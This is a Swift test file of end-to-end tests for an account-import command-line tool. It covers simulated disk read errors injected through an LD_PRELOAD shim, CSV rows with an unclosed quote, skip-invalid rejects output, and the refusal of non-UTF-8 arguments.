    // MARK: row 14 — a read error is not the end of the file

    @Test func aReadErrorMidFileIsExit8AndNothingIsImported() throws {
        let compiler = try #require(["/usr/bin/cc", "/usr/bin/gcc", "/opt/swift/usr/bin/clang", "/usr/bin/clang"].first { FileManager.default.isExecutableFile(atPath: $0) })
        let t = E2E()
        t.demo()
        // reads of a file named *eio* fail with EIO from byte 100 000 on, as a failing disk would
        let shim = t.dir + "/eio.c"
        try """
            #define _GNU_SOURCE
            #include <dlfcn.h>
            #include <errno.h>
            #include <stdio.h>
            #include <string.h>
            #include <unistd.h>
            ssize_t read(int fd, void *buf, size_t n) {
                static ssize_t (*real)(int, void *, size_t);
                if (!real) real = (ssize_t (*)(int, void *, size_t))dlsym(RTLD_NEXT, "read");
                char link[64], target[4096];
                snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
                ssize_t len = readlink(link, target, sizeof target - 1);
                if (len > 0) {
                    target[len] = 0;
                    if (strstr(target, "eio") && lseek(fd, 0, SEEK_CUR) >= 100000) { errno = EIO; return -1; }
                }
                return real(fd, buf, n);
            }
            """.write(toFile: shim, atomically: true, encoding: .utf8)
        let built = E2E.exec(compiler, ["-shared", "-fPIC", "-o", t.dir + "/eio.so", shim, "-ldl"])
        #expect(built.status == 0, "\(built)")
        var csv = "rgk;account;surname;name;address\n"
        for i in 0..<4000 { csv += "vologda;\(80_000_000 + i);Иванов;Иван;г. Вологда, ул. Ленина, д. \(i)\n" }
        let file = t.dir + "/accounts-eio.csv"
        try csv.write(toFile: file, atomically: true, encoding: .utf8)
        let accounts = t.sql("SELECT count(*) FROM account")
        let r = t.run(["import", "accounts", file], env: ["LD_PRELOAD": t.dir + "/eio.so"])
        #expect(r.status == 8 && r.stderr.contains("accounts-eio.csv") && r.stderr.contains("Input/output error"), "\(r)")
        #expect(t.sql("SELECT count(*) FROM account") == accounts, "nothing imported from a file read in part")
        #expect(t.run("import", "accounts", file).status == 0, "the same file, readable, imports")
    }

    // MARK: row 15 — a quote that never closes, after other bad rows

    @Test func anOpenQuoteIsReportedWithEveryBadRowBeforeItAndSkipInvalidKeepsTheRowsBefore() throws {
        let t = E2E()
        t.demo()
        let file = t.dir + "/лс.csv"
        try """
            rgk;account;surname;name;residents
            vologda;abc;Иванов;Иван;2
            vologda;80000999;Петров;Петр;3
            vologda;80001000;Сидоров;Сидор;много
            vologda;80001001;"Кузнецов;Кузьма;1
            vologda;80001002;Орлов;Олег;2
            vologda;80001003;Смирнов;Семен;4

            """.write(toFile: file, atomically: true, encoding: .utf8)
        let refused = t.run("import", "accounts", file)
        #expect(refused.status == 6, "\(refused)")
        let lines = refused.stderr.split(separator: "\n").map(String.init)
        #expect(lines.contains { $0.hasPrefix(file + ":2: ") } && lines.contains { $0.hasPrefix(file + ":4: ") } && lines.contains { $0.hasPrefix(file + ":5: ") },
                "every bad row, the open quote's too: \(refused.stderr)")
        #expect(t.sql("SELECT count(*) FROM account WHERE number LIKE '8000%'") == "0")
        let rejects = t.dir + "/rej.csv"
        let skipped = t.run("import", "accounts", file, "--skip-invalid", "--rejects", rejects, "--json")
        #expect(skipped.status == 5, "\(skipped)")
        #expect(t.sql("SELECT number FROM account WHERE number LIKE '8000%' ORDER BY number") == "80000999", "the good row before the quote")
        let parsed = E2E.exec("/usr/bin/env", ["python3", "-c", "import csv,sys,json; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding='utf-8', newline=''), delimiter=';'))))", rejects])
        let rows = (try? JSONSerialization.jsonObject(with: Data(parsed.stdout.utf8))) as? [[String]] ?? []
        #expect(rows.map { $0.first ?? "" } == ["line", "2", "4", "5-7"], "\(parsed)")
        #expect(rows.last?.last?.contains("80001003;Смирнов") == true, "the rest of the file, as it was, in one entry: \(rows)")
    }

    // MARK: row 16 — an argument that is not UTF-8

    @Test func anArgumentThatIsNotUTF8IsRefusedNotRepaired() throws {
        let t = E2E()
        let r = E2E.exec("/bin/sh", ["-c", "exec \"$0\" --db \"$(printf '\(t.dir)/\\377.db')\" init", E2E.binary], cwd: t.dir)
        #expect(r.status == 2 && r.stderr.contains("argument 2") && r.stderr.contains("\\xFF.db"), "\(r)")
        #expect(r.stderr.split(separator: "\n").count == 1)
        #expect(try FileManager.default.contentsOfDirectory(atPath: t.dir).isEmpty, "no other file was opened or made")
        let ru = E2E.exec("/bin/sh", ["-c", "exec \"$0\" --lang ru user show \"$(printf 'a\\200b')\"", E2E.binary], env: ["LANG": "ru_RU.UTF-8"], cwd: t.dir)
        #expect(ru.status == 2 && ru.stderr.contains("не текст в UTF-8") && ru.stderr.contains("a\\x80b"), "\(ru)")
    }
}
